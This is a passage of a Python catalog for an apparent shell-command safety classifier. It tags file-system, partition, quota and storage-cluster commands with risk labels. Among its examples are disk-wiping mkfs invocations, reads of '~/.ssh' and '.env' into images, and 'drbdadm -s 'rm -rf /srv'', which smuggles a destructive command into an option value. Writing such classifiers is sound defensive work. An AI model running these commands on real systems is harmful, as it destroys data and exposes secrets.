"""File systems, their makers, checkers and tuners, quotas, partitions in use, network block devices, rescue tools, user mounts."""

from capfence_sh.catalog.vocabulary import (
    CONFIG,
    DESTRUCTIVE,
    EGRESS,
    INSPECT,
    KEYS,
    MUTATION,
    OPAQUE,
    OVERWRITE,
    PROGRAM,
    PROJECT_CODE,
    RAW,
    READ,
    REMOTE_SOURCE,
    REMOVE,
    RESOURCE,
    ROOT_ACCESS,
    SECRET_READ,
    SHELL,
    SINGLE,
    TEXT,
    WRITE,
    WRITES,
    command,
    example,
    flags,
    operands,
    option,
    values,
)

ADMINISTERS = (ROOT_ACCESS, MUTATION)
WIPES = (ROOT_ACCESS, DESTRUCTIVE)
RESCUES = (ROOT_ACCESS, DESTRUCTIVE, SECRET_READ)
HELP = option("-h", harmless=True)
FORMATTED = operands(OVERWRITE, TEXT)
QUOTA_SCOPE = flags(
    "-u --user, -g --group, -P --project, -v --verbose, -a --all, -i --no-autofs, -m --no-mixed-pathnames, --always-resolve"
)

COMMANDS = (
    # ---- making file systems ---------------------------------------------------------------------------------------------
    command(
        "mkfs",
        "newfs",
        # hands the options it does not know to the maker of the type: whatever follows them may be the device
        options=(
            *flags(
                "-V -v --verbose, -c, -C, -D, -F, -f, -j, -n, -q, -S, -K, -O, -L, -m, -b, -i, -I, -l, -N, -T, -U, -E, -G, -g, -J, -M, -r, -s"
            ),
            *values("-t --type"),
            HELP,
        ),
        operands=operands(many=OVERWRITE),
        examples=(
            example("mkfs -t xfs /dev/sda1", WRITES, DESTRUCTIVE),
            example("mkfs -t ext4 -L data /dev/sda1", WRITES, DESTRUCTIVE),
        ),
    ),
    command(
        "mke2fs",
        "mkfs.ext2",
        "mkfs.ext3",
        "mkfs.ext4",
        options=(
            *flags("-c, -C, -D, -F, -j, -q, -S, -v, -V"),
            *values("-b, -e, -E, -g, -G, -i, -I, -J, -L, -m, -M, -N, -o, -O, -r, -t, -T, -U"),
            option("-n", harmless=True),
            option("-d", takes=READ),
            option("-l", takes=READ),
            option("-z", takes=WRITE),
        ),
        operands=FORMATTED,
        examples=(
            example("mkfs.ext4 -F /dev/nvme0n1p2", WRITES, DESTRUCTIVE),
            example("mkfs.ext4 -O ^has_journal -L data /dev/sdb1", WRITES, DESTRUCTIVE),
            example("mkfs.ext4 -n /dev/sda1"),
            example("mke2fs -d ~/.ssh img", WRITES, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        "mkfs.xfs",
        options=(
            *flags("-f, -q, -K, -V"),
            *values("-b, -m, -d, -i, -l, -n, -r, -s, -L"),
            option("-N", harmless=True),
            option("-c", takes=TEXT),
            option("-p", takes=READ),
        ),
        operands=FORMATTED,
        examples=(
            example("mkfs.xfs -f -L data /dev/sdb1", WRITES, DESTRUCTIVE),
            example("mkfs.xfs -N /dev/sdb1"),
            example("mkfs.xfs -p .env img", WRITES, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        "mkfs.btrfs",
        options=(
            *flags("-M --mixed, -K --nodiscard, --shrink, -f --force, -q --quiet, -v --verbose, -V"),
            *values(
                "-b --byte-count, --csum --checksum, -n --nodesize, -s --sectorsize, -L --label, -O --features, -R --runtime-features, -U --uuid"
            ),
            *values("-l --leafsize, -d --data, -m --metadata, -A --alloc-start"),
            option("-r", "--rootdir", takes=READ),
        ),
        operands=operands(many=OVERWRITE),
        examples=(example("mkfs.btrfs -d raid1 -m raid1 /dev/sdb /dev/sdc", WRITES, DESTRUCTIVE),),
    ),
    command(
        "mkfs.fat",
        "mkfs.vfat",
        "mkfs.msdos",
        "mkdosfs",
        options=(
            *flags("-a, -A, -c, -C, -I, -v, --invariant"),
            *values("-b, -D, -f, -F, -g, -h, -i, -M, -n, --codepage, -r, -R, -s, -S, --offset, --variant"),
            *values("-l, -m", takes=READ),
            option("--mbr", takes=TEXT, optional=True),
        ),
        operands=FORMATTED,
        examples=(
            example("mkfs.vfat -n X disk.img", WRITES, DESTRUCTIVE),
            example("mkfs.fat -F 32 -I /dev/sdb", WRITES, DESTRUCTIVE),
            example("mkfs.fat -m .env disk.img", WRITES, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        "mkntfs",
        "mkfs.ntfs",
        options=(
            *flags(
                "-f --fast, -Q --quick, -C --enable-compression, -T --zero-time, -U --with-uuid, -I --no-indexing, -F --force, -q --quiet, -v --verbose, --debug"
            ),
            *values(
                "-L --label, -c --cluster-size, -s --sector-size, -p --partition-start, -H --heads, -S --sectors-per-track, -z --mft-zone-multiplier"
            ),
            option("-n", "--no-action", "-h", "-V", "-l", "--license", harmless=True),
        ),
        operands=FORMATTED,
        examples=(
            example("mkfs.ntfs -U /dev/sdb1", WRITES, DESTRUCTIVE),
            example("mkntfs -Q -L data /dev/sdb1", WRITES, DESTRUCTIVE),
            example("mkntfs -n /dev/sdb1"),
        ),
    ),
    command(
        "mkfs.exfat",
        "mkexfatfs",
        options=(
            *flags("-f --full --full-format, --pack-bitmap, -v --verbose, -V"),
            *values("-b --boundary-align, -c --cluster-size, -L --volume-label, -n, -i, -p, -s"),
            HELP,
        ),
        operands=operands(OVERWRITE),
        examples=(example("mkfs.exfat -L usb /dev/sdb1", WRITES, DESTRUCTIVE),),
    ),
    command(
        "mkfs.f2fs",
        options=(
            *flags("-f, -i, -m, -q, -r, -S, -V"),
            *values("-a, -d, -e, -E, -g, -l, -o, -O, -C, -s, -t, -T, -w, -z, -R, -Z, -U"),
            option("-c", takes=OVERWRITE),
            HELP,
        ),
        operands=FORMATTED,
        examples=(
            example("mkfs.f2fs -i /dev/sdb1", WRITES, DESTRUCTIVE),
            example("mkfs.f2fs -c /dev/sdc /dev/sdb1", WRITES, DESTRUCTIVE),
        ),
    ),
    command(
        "mkfs.minix",
        options=(
            *flags("-c --check, -1, -2, -v, -3, -V"),
            *values("-n --namelength, -i --inodes"),
            option("--lock", takes=TEXT, optional=True),
            option("-l", "--badblocks", takes=READ),
            HELP,
        ),
        operands=FORMATTED,
        examples=(
            example("mkfs.minix -3 /dev/sdb1", WRITES, DESTRUCTIVE),
            example("mkfs.minix -l .env img", WRITES, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        "mkfs.bfs",
        options=(*flags("-v --verbose, -c, -l, --lock"), *values("-N --inodes, -V --vname, -F --fname"), HELP),
        operands=FORMATTED,
        examples=(example("mkfs.bfs -l /dev/sdb1", WRITES, DESTRUCTIVE),),
    ),
    command(
        "mkfs.cramfs",
        "mkcramfs",
        options=(
            *flags("-v, -E, -p, -s, -z, -V"),
            *values("-b, -e, -N, -n"),
            option("-i", takes=READ),
            option("--lock", "-l", takes=TEXT, optional=True),
            HELP,
        ),
        operands=operands(READ, OVERWRITE),
        examples=(
            example("mkfs.cramfs -E src img", WRITES, DESTRUCTIVE),
            example("mkfs.cramfs ~/.ssh img", WRITES, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        "mkfs.jfs",
        "jfs_mkfs",
        options=(*flags("-c, -O, -q, -V, -f"), *values("-J, -L, -s"), option("-j", takes=OVERWRITE)),
        operands=FORMATTED,
        examples=(example("mkfs.jfs -O /dev/sdb1", WRITES, DESTRUCTIVE), example("mkfs.jfs -j /dev/sdc1 /dev/sdb1", WRITES, DESTRUCTIVE)),
    ),
    command(
        "mkfs.reiserfs",
        "mkreiserfs",
        options=(
            *flags("-q --quiet, -f, -d, -V, -y"),
            *values(
                "-b --block-size, -h --hash, --format, -u --uuid, -l --label, -o --journal-offset, -s --journal-size, -t --transaction-max-size"
            ),
            option("-j", "--journal-device", takes=OVERWRITE),
            option("-B", "--badblocks", takes=READ),
        ),
        operands=FORMATTED,
        examples=(
            example("mkfs.reiserfs -d /dev/sdb1", WRITES, DESTRUCTIVE),
            example("mkfs.reiserfs -B .env img", WRITES, DESTRUCTIVE, SECRET_READ),
        ),
    ),
    command(
        "mkfs.udf",
        "mkudffs",
        options=(
            *flags("--new-file, --read-only, --vat, --closed, --noefe, --locale, --u8, --u16, --utf8"),
            *values(
                "-l --label, -u --uuid, -b --blocksize, -m --media-type, -r --udfrev, --lvid, --vid, --vsid, --fsid, --fullvsid, --owner, --organization, --contact"
            ),
            *values(
                "--uid, --gid, --mode, --bootarea, --strategy, --spartable, --sparspace, --packetlen, --startblock, --minblocks, --space, --ad"
            ),
            option("-n", "--no-write", harmless=True),
            HELP,
        ),
        operands=FORMATTED,
        examples=(example("mkfs.udf -l X /dev/sdb1", WRITES, DESTRUCTIVE), example("mkudffs -n /dev/sdb1")),
    ),
    command(
        "mkfs.nilfs2",
        options=(*flags("-c, -f, -h, -K, -q, -v, -V"), *values("-b, -B, -L, -m, -O"), option("-n", harmless=True)),
        operands=FORMATTED,
        examples=(example("mkfs.nilfs2 -K /dev/sdb1", WRITES, DESTRUCTIVE), example("mkfs.nilfs2 -n /dev/sdb1")),
    ),
    # ---- checking and tuning ---------------------------------------------------------------------------------------------
    command(
        "fsck",
        options=(
            *flags("-l, -s, -A, -M, -P, -R, -T, -V, -a, -c, -d, -D, -f, -F, -k, -p, -v, -y, -w, -L, -U"),
            *values("-t"),
            option("-r", "-C", takes=TEXT, optional=True),
            option("-n", "-N", "-?", harmless=True),
        ),
        operands=operands(many=RESOURCE),
        effects=ADMINISTERS,
        examples=(example("fsck -n /dev/sda1"), example("fsck -y /dev/sda1", ROOT_ACCESS, MUTATION), example("fsck -N -t ext4 /dev/sda1")),
    ),
    command(
        "e2fsck",
        "fsck.ext2",
        "fsck.ext3",
        "fsck.ext4",
        options=(
            *flags("-a, -c, -d, -D, -f, -F, -k, -p, -r, -t, -v, -V, -y"),
            *values("-b, -B, -C, -E"),
            option("-j", takes=INSPECT),
            *values("-l, -L", takes=READ),
            option("-z", takes=WRITE),
            option("-n", harmless=True),
        ),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(
            example("e2fsck -fn /dev/sda1"),
            example("e2fsck -t -y /dev/sda1", ROOT_ACCESS, MUTATION),
            example("e2fsck -z undo /dev/sda1", ROOT_ACCESS, MUTATION, WRITES),
            example("e2fsck -l .env /dev/sda1", ROOT_ACCESS, MUTATION, SECRET_READ),
        ),
    ),
    command(
        "fsck.fat",
        "fsck.vfat",
        "fsck.msdos",
        "dosfsck",
        options=(
            *flags("-a, -A, -b, -f, -l, -p, -r, -S, -t, -U, -v, -V, -w, -y"),
            *values("-c, -F, --variant, -d, -u"),
            option("-n", harmless=True),
            HELP,
        ),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("fsck.vfat -n /dev/sda1"), example("fsck.fat -a -t /dev/sda1", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "fsck.xfs",
        "fsck.btrfs",
        options=flags("-a, -f, -n, -p, -y"),
        operands=operands(many=RESOURCE),
        examples=(example("fsck.xfs /dev/sda1"),),
    ),
    command(
        "xfs_repair",
        options=(
            *flags("-f, -L, -P, -t, -v, -d, -e, -V"),
            *values("-l, -r, -m, -c, -o"),
            option("-n", harmless=True),
        ),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("xfs_repair -n /dev/sda1"), example("xfs_repair -L /dev/sda1", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "ntfsfix",
        options=(*flags("-b --clear-bad-sectors, -d --clear-dirty"), option("-n", "--no-action", "-h", "-V", harmless=True)),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("ntfsfix -n /dev/sda1"), example("ntfsfix -d /dev/sda1", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "fsck.exfat",
        options=(*flags("-a, -p, -r, -s, -v, -y, -b"), option("-n", "-V", harmless=True)),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("fsck.exfat -n /dev/sdb1"), example("fsck.exfat -y /dev/sdb1", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "fsck.f2fs",
        options=(*flags("-a, -f, -M, -S, -t, -y, -V"), *values("-p, -d, -c, -m"), option("--dry-run", harmless=True)),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("fsck.f2fs --dry-run /dev/sdb1"), example("fsck.f2fs -a /dev/sdb1", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "reiserfsck",
        options=(
            *flags(
                "--rebuild-sb, --fix-fixable, --rebuild-tree, --clean-attributes, -z --adjust-size, -n --nolog, -q --quiet, -y --yes, -a, -p, -f --force, -V, -r"
            ),
            *flags("--no-journal-available, -S --scan-whole-partition"),
            option("--check", harmless=True),
            option("-j", "--journal", takes=INSPECT),
            option("-B", "--badblocks", takes=READ),
            option("-l", "--logfile", takes=WRITE),
        ),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(
            example("reiserfsck --check /dev/sda1"),
            example("reiserfsck -n --rebuild-tree /dev/sda1", ROOT_ACCESS, MUTATION),
            example("reiserfsck -l log /dev/sda1", ROOT_ACCESS, MUTATION, WRITES),
            example("reiserfsck -B .env /dev/sda1", ROOT_ACCESS, MUTATION, SECRET_READ),
        ),
    ),
    command(
        "btrfsck",
        options=(
            *flags(
                "--repair, --init-csum-tree, --init-extent-tree, --clear-ino-cache, -b --backup, --check-data-csum, -p --progress, -Q --qgroup-report, --force"
            ),
            *values("-s --super, --mode, -r --tree-root, --chunk-root, -E --subvol-extents, --clear-space-cache"),
            option("--readonly", harmless=True),
        ),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("btrfsck --readonly /dev/sda1"), example("btrfsck --repair /dev/sda1", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "tune2fs",
        options=(
            *flags("-f, -I, -j, -l"),
            *values("-c, -C, -e, -E, -g, -i, -J, -L, -m, -M, -o, -O, -Q, -r, -T, -u, -U"),
            option("-z", takes=WRITE),
        ),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        analyser="only_looks",
        examples=(
            example("tune2fs -l -U random /dev/sda1", ROOT_ACCESS, MUTATION),
            example("tune2fs -l /dev/sda1"),
            example("tune2fs -m 1 /dev/sda1", ROOT_ACCESS, MUTATION),
            example("tune2fs -z undo -O ^has_journal /dev/sda1", ROOT_ACCESS, MUTATION, WRITES),
        ),
    ),
    command(
        "e2label",
        "exfatlabel",
        options=flags("-i --volume-serial, -v --verbose, -V"),
        operands=operands(RESOURCE, RESOURCE),
        effects=ADMINISTERS,
        examples=(example("e2label /dev/sda1 data", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "xfs_admin",
        options=(*flags("-e, -f, -j, -p, -V, -l, -u"), *values("-c, -L, -O, -U, -r")),
        operands=operands(RESOURCE, RESOURCE),
        effects=ADMINISTERS,
        analyser="only_looks",
        examples=(
            example("xfs_admin -l /dev/sda1"),
            example("xfs_admin -lL data /dev/sda1", ROOT_ACCESS, MUTATION),
            example("xfs_admin -L data /dev/sda1", ROOT_ACCESS, MUTATION),
        ),
    ),
    command(
        "fatlabel",
        "dosfslabel",
        options=(*flags("-i --volume-id, -r --reset"), *values("-c --codepage"), option("-h", "-V", harmless=True)),
        operands=operands(RESOURCE, RESOURCE),
        effects=ADMINISTERS,
        examples=(example("fatlabel /dev/sda1 X", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "ntfslabel",
        options=(
            *flags("-f --force, -q --quiet, -v --verbose"),
            option("--new-serial", "--new-half-serial", takes=TEXT, optional=True),
            option("-n", "--no-action", "-h", "-V", harmless=True),
        ),
        operands=operands(RESOURCE, RESOURCE),
        effects=ADMINISTERS,
        examples=(example("ntfslabel /dev/sda1 X", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "swaplabel",
        options=(*values("-L --label, -U --uuid"), option("-h", "-V", harmless=True)),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("swaplabel -L x /dev/sda1", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "btrfstune",
        options=(*flags("-b, -f, -m, -n, -r, -u, -x"), *values("-M, -S, -U, --csum"), HELP),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("btrfstune -u /dev/sda1", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "resize2fs",
        options=(*flags("-b, -f, -F, -M, -p, -s"), *values("-d, -S"), option("-P", harmless=True), option("-z", takes=WRITE)),
        operands=operands(RESOURCE, TEXT),
        effects=ADMINISTERS,
        examples=(
            example("resize2fs /dev/sda1", ROOT_ACCESS, MUTATION),
            example("resize2fs -P /dev/sda1"),
            example("resize2fs -z undo /dev/sda1", ROOT_ACCESS, MUTATION, WRITES),
        ),
    ),
    command(
        "xfs_growfs",
        options=(*flags("-d, -e, -i, -l, -m, -r, -x"), *values("-D, -L, -R, -t"), option("-n", "-V", harmless=True)),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("xfs_growfs /srv", ROOT_ACCESS, MUTATION), example("xfs_growfs -n /srv")),
    ),
    command(
        "growpart",
        options=(*flags("-v --verbose"), *values("--fudge, --free-percent, -u --update"), option("-N", "--dry-run", "-h", harmless=True)),
        operands=operands(RESOURCE, TEXT),
        effects=ADMINISTERS,
        examples=(example("growpart /dev/sda 1", ROOT_ACCESS, MUTATION), example("growpart -N /dev/sda 1")),
    ),
    command(
        "partprobe",
        options=(*flags("-s --summary"), option("-d", "--dry-run", "-h", "-v", harmless=True)),
        operands=operands(many=RESOURCE),
        effects=ADMINISTERS,
        examples=(example("partprobe", ROOT_ACCESS, MUTATION), example("partprobe -d -s")),
    ),
    command(
        "kpartx",
        options=(*flags("-a, -d, -u, -r, -f, -g, -s, -n, -v"), *values("-p, -t"), option("-l", harmless=True)),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("kpartx -l disk.img"), example("kpartx -av disk.img", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "partx",
        options=(
            *flags("-b --bytes, -g --noheadings, --output-all, -P --pairs, -r --raw, -v --verbose"),
            *values("-n --nr, -o --output, -t --type, -S --sector-size"),
            option("-l", "--list", "-s", "--show", "--list-types", "-h", "-V", harmless=True),
            option("-a", "--add", "-d", "--delete", "-u", "--update", effects=ADMINISTERS),
        ),
        operands=operands(many=RESOURCE),
        examples=(example("partx --show /dev/sda"), example("partx -a /dev/sda", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "addpart",
        "delpart",
        "resizepart",
        options=(option("-h", "-V", harmless=True),),
        operands=operands(RESOURCE, TEXT, TEXT, TEXT),
        effects=ADMINISTERS,
        examples=(example("delpart /dev/sda 1", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "xfs_fsr",
        options=(*flags("-v, -d, -g, -V"), *values("-m, -t, -p"), option("-f", takes=WRITE)),
        operands=operands(many=RESOURCE),
        effects=ADMINISTERS,
        examples=(example("xfs_fsr /srv", ROOT_ACCESS, MUTATION), example("xfs_fsr -f left /srv", ROOT_ACCESS, MUTATION, WRITES)),
    ),
    command(
        "e4defrag",
        options=(*flags("-v"), option("-c", harmless=True)),
        operands=operands(many=RESOURCE),
        effects=ADMINISTERS,
        examples=(example("e4defrag /srv", ROOT_ACCESS, MUTATION), example("e4defrag -c /srv")),
    ),
    command(
        "e2image",
        options=(*flags("-a, -c, -f, -p, -Q, -r, -s"), *values("-b, -B, -o, -O"), option("-n", harmless=True), option("-I", effects=WIPES)),
        operands=operands(READ, WRITE),
        effects=RESCUES,
        examples=(example("e2image -ar /dev/sda1 img", ROOT_ACCESS, DESTRUCTIVE, SECRET_READ, WRITES),),
    ),
    command(
        "badblocks",
        options=(
            *flags("-f, -s, -v, -B, -X"),
            *values("-b, -c, -d, -e, -p, -t"),
            option("-i", takes=READ),
            option("-o", takes=WRITE),
            option("-w", "-n", effects=WIPES),
        ),
        operands=operands(RESOURCE, TEXT, TEXT),
        examples=(
            example("badblocks -sv /dev/sda"),
            example("badblocks -wsv /dev/sda", ROOT_ACCESS, DESTRUCTIVE),
            example("badblocks -o bad /dev/sda", WRITES),
            example("badblocks -i .env /dev/sda", SECRET_READ),
        ),
    ),
    command(
        "quotacheck",
        "quotaon",
        "quotaoff",
        "setquota",
        "edquota",
        options=(
            *QUOTA_SCOPE,
            *flags(
                "-b --backup --batch, -d --debug, -c --create-files --continue-batch, -f --force --off, -M --try-remount, -n --use-first-dquot, -R --exclude-root"
            ),
            *flags("--no-remount, --interactive, -t --edit-period, -T --edit-times, -r --remote, -V"),
            *values("-F --format, --prototype, --filesystem, -x --xfs-command"),
            option("--print-state", harmless=True),
            HELP,
            *values("-p"),
        ),
        operands=operands(many=RESOURCE),
        effects=ADMINISTERS,
        examples=(
            example("setquota -u bob 1 2 3 4 /home", ROOT_ACCESS, MUTATION),
            example("quotaon --print-state -a"),
        ),
    ),
    command(
        "repquota",
        options=(
            *QUOTA_SCOPE,
            *flags("-c --cache, -C --no-cache, -t --truncate-names, -n --no-names, -p --raw-grace, -V"),
            *values("-F --format, -O --output"),
            option("-s", "--human-readable", takes=TEXT, optional=True),
            HELP,
        ),
        operands=operands(many=INSPECT),
        examples=(example("repquota -as"),),
    ),
    command(
        "quota",
        options=(
            *QUOTA_SCOPE,
            *flags(
                "-p --raw-grace, -l --local-only, -A --all-nfs, -f --filesystem-list, -q --quiet, -Q --quiet-refuse, -w --no-wrap, --show-mntpoint, --hide-device, -V"
            ),
            *values("-F --format, --filesystem"),
            option("-s", "--human-readable", takes=TEXT, optional=True),
            HELP,
        ),
        operands=operands(many=TEXT),
        examples=(example("quota -s bob"),),
    ),
    command(
        "xfs_quota",
        options=(
            *flags("-f, -V"),
            *values("-p, -d"),
            *values("-D, -P", takes=READ),
            *flags("-x"),
            option("-c", takes=TEXT),
        ),
        operands=operands(many=INSPECT),
        analyser="examined",
        examples=(
            example("xfs_quota -c 'report -h' /srv"),
            example("xfs_quota -x -c 'report -h' /srv"),
            example("xfs_quota -x -c 'limit bsoft=1g bob' /srv", ROOT_ACCESS, MUTATION),
            example("xfs_quota -D .env -c report", SECRET_READ),
        ),
    ),
    command(
        "ntfsresize",
        options=(
            *flags("-x --expand, -f --force, -b --bad-sectors, -P --no-progress-bar, -v --verbose"),
            *values("-s --size"),
            option("-c", "--check", "-i", "--info", "-m", "--info-mb-only", "-n", "--no-action", "-h", "-V", harmless=True),
        ),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("ntfsresize -i /dev/sda1"), example("ntfsresize -s 1G /dev/sda1", ROOT_ACCESS, MUTATION)),
    ),
    command(
        "btrfs-convert",
        options=(
            *flags("-d --no-datasum, -i --no-xattr, -n --no-inline, -r --rollback, -L --copy-label, -p --progress, --no-progress"),
            *values("--csum --checksum, -N --nodesize, -l --label, -O --features, --uuid"),
            HELP,
        ),
        operands=operands(RESOURCE),
        effects=ADMINISTERS,
        examples=(example("btrfs-convert /dev/sda1", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "multipath",
        options=(
            *flags("-C, -d, -i, -B, -q, -e, -r"),
            *values("-v, -p, -R"),
            option("-b", takes=WRITE),
            option("-l", "-ll", "-h", "-t", "-T", "-c", "-u", "-U", harmless=True),
            option("-f", "-F", "-w", "-W", "-a", effects=ADMINISTERS),
        ),
        operands=operands(many=RESOURCE),
        examples=(
            example("multipath -ll"),
            example("multipath -F", ROOT_ACCESS, MUTATION),
            example("multipath -b binds -r", WRITES, ROOT_ACCESS, MUTATION),
        ),
        effects=ADMINISTERS,
    ),
    command(
        "iscsiadm",
        options=(
            *flags("-s --stats, -W --no_wait, -V"),
            *values(
                "-a --ip, -A --portal_type, -b --packetsize, -c --count, -C --submode, -d --debug, -i --interval, -I --interface, -m --mode, -H --host, -n --name"
            ),
            *values("-p --portal, -P --print, -T --targetname, -r --sid, -t --type, -v --value, -x --index"),
            option("-o", "--op", takes=TEXT, effects=ADMINISTERS, when=("new", "delete", "update", "nonpersistent", "apply", "applyall")),
            option("-R", "--rescan", "-D", "--discover", "-l", "--login", "-u", "--logout", effects=ADMINISTERS),
            option("-k", "--killiscsid", "-L", "--loginall", "-U", "--logoutall", takes=TEXT, effects=ADMINISTERS),
            option("-S", "--show", effects=(SECRET_READ,)),
            HELP,
        ),
        examples=(
            example("iscsiadm -m session -P 3"),
            example("iscsiadm -m node -o show"),
            example("iscsiadm -m node -o delete", ROOT_ACCESS, MUTATION),
            example("iscsiadm -m node -T t -p 10.0.0.5 --login", ROOT_ACCESS, MUTATION),
            example("iscsiadm -m node -U all", ROOT_ACCESS, MUTATION),
            example("iscsiadm -m node -S", SECRET_READ),
        ),
    ),
    command(
        "targetcli",
        options=(*flags("--disable-daemon"), option("-v", harmless=True)),
        operands=operands(many=RESOURCE),
        effects=ADMINISTERS,
        examples=(example("targetcli clearconfig confirm=True", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "cryptdisks_start",
        "cryptdisks_stop",
        options=flags("-r --readonly"),
        operands=operands(many=RESOURCE),
        effects=ADMINISTERS,
        examples=(example("cryptdisks_start data", ROOT_ACCESS, MUTATION),),
    ),
    command(
        "drbdadm",
        options=(
            *flags("-S --stacked, -v --verbose, -f --force"),
            *values("-P --peer, -W --with-hook, -p --sh-varname"),
            *values("-c --config-file, -t --config-to-test", takes=CONFIG),
            *values("-s --drbdsetup, -m --drbdmeta", takes=PROGRAM),
            option("-d", "--dry-run", harmless=True),
        ),
        subcommands=(
            command(
                "status",
                "dump",
                "role",
                "cstate",
                "dstate",
                "sh-resources",
                "sh-resource",
                "sh-dev",
                "sh-nop",
                "get-gi",
                "show-gi",
                "dump-md",
                "dump-xml",
                "dump-options",
                operands=operands(many=INSPECT),
                examples=(example("drbdadm status all"),),
            ),
            command(
                "up",
                "down",
                "attach",
                "detach",
                "connect",
                "disconnect",
                "primary",
                "secondary",
                "adjust",
                "adjust-with-progress",
                "resize",
                "verify",
                "pause-sync",
                "resume-sync",
                "new-current-uuid",
                "wait-connect",
                "wait-con-int",
                "disk-options",
                "net-options",
                "apply-al",
                "outdate",
                operands=operands(many=RESOURCE),
                effects=ADMINISTERS,
                examples=(
                    example("drbdadm primary r0", ROOT_ACCESS, MUTATION),
                    example("drbdadm -s 'rm -rf /srv' up r0", ROOT_ACCESS, MUTATION, DESTRUCTIVE, OPAQUE),
                    example("drbdadm -c conf up r0", MUTATION, PROJECT_CODE, ROOT_ACCESS),
                ),
            ),
            command(
                "create-md",
                "wipe-md",
                "invalidate",
                "invalidate-remote",
                "restore-md",
                operands=operands(many=RESOURCE),
                effects=WIPES,
                examples=(example("drbdadm wipe-md r0", ROOT_ACCESS, DESTRUCTIVE),),
            ),
        ),
    ),
    command(
        "gluster",
        options=(
            *flags("--xml, --nolog, --strict"),
            *values("--log-file", takes=WRITE),
            *values("--remote-host, --log-level, --glusterd-sock, --timeout, --mode"),
        ),
        subcommands=(
            command(
                "volume",
                subcommands=(
                    command(
                        "info",
                        "status",
                        "list",
                        "get",
                        "top",
                        "profile",
                        "help",
                        operands=operands(many=TEXT),
                        examples=(example("gluster volume status"), example("gluster --mode=script volume info gv0")),
                    ),
                    command(
                        *(
                            "create",
                            "start",
                            "stop",
                            "set",
                            "reset",
                            "add-brick",
                            "replace-brick",
                            "rebalance",
                            "heal",
                            "quota",
                            "bitrot",
                            "geo-replication",
                            "sync",
                        ),
                        *("clear-locks", "barrier", "log", "reset-brick", "statedump", "tier"),
                        operands=operands(many=RESOURCE),
                        effects=ADMINISTERS,
                        examples=(example("gluster volume stop gv0", ROOT_ACCESS, MUTATION),),
                    ),
                    command(
                        "delete",
                        "remove-brick",
                        operands=operands(many=RESOURCE),
                        effects=WIPES,
                        examples=(example("gluster volume delete gv0", ROOT_ACCESS, DESTRUCTIVE),),
                    ),
                ),
            ),
            command(
                "peer",
                "pool",
                subcommands=(
                    command("status", "list", "help", operands=operands(many=TEXT), examples=(example("gluster peer status"),)),
                    command(
                        "probe",
                        "detach",
                        operands=operands(many=RESOURCE),
                        effects=ADMINISTERS,
                        examples=(example("gluster peer probe h2", ROOT_ACCESS, MUTATION),),
                    ),
                ),
            ),
            command("help", "version", operands=operands(many=TEXT)),
            command(
                "snapshot",
                subcommands=(
                    command("list", "info", "status", "help", operands=operands(many=TEXT), examples=(example("gluster snapshot list"),)),
                    command(
                        "create",
                        "clone",
                        "activate",
                        "deactivate",
                        "config",
                        operands=operands(many=RESOURCE),
                        effects=ADMINISTERS,
                        examples=(example("gluster snapshot create s gv0", ROOT_ACCESS, MUTATION),),
                    ),
                    command(
                        "delete",
                        "restore",
                        operands=operands(many=RESOURCE),
                        effects=WIPES,
                        examples=(example("gluster snapshot delete all", ROOT_ACCESS, DESTRUCTIVE),),
                    ),
                ),
            ),
        ),
    ),
    command(
        "pvesm",
        options=(
            *flags("--human-readable"),
            *values(
                "--content, --enabled, --storage, --target, --vmid, --format, --output-format, --portal, --server, --server_export, --password, --username, --pool, --path, --type, --nodes, --filename"
            ),
        ),
        subcommands=(
            command(
                "status", "list", "path", "scan", "config", "apiinfo", operands=operands(many=TEXT), examples=(example("pvesm status"),)
            ),
            command(
                "add",
                "set",
                "alloc",
                "remove",
                "free",
                "import",
                "export",
                "prune-backups",
                operands=operands(many=RESOURCE),
                effects=WIPES,
                examples=(example("pvesm free local:1/d.raw", ROOT_ACCESS, DESTRUCTIVE),),
            ),
        ),
    ),
    command(
        "dumpe2fs",
        options=(*flags("-b, -f, -g, -h, -m, -x, -V"), *values("-o"), option("-i", takes=READ)),
        operands=operands(INSPECT, TEXT),
        examples=(example("dumpe2fs -h /dev/sda1"), example("dumpe2fs -i .env", SECRET_READ)),
    ),
    command(
        "xfs_info", options=(*flags("-V"), *values("-t", takes=INSPECT)), operands=operands(INSPECT), examples=(example("xfs_info /srv"),)
    ),
    command(
        "e2freefrag", options=(*flags("-h"), *values("-c")), operands=operands(INSPECT), examples=(example("e2freefrag -c 4 /dev/sda1"),)
    ),
    command(
        "btrfs-show-super",
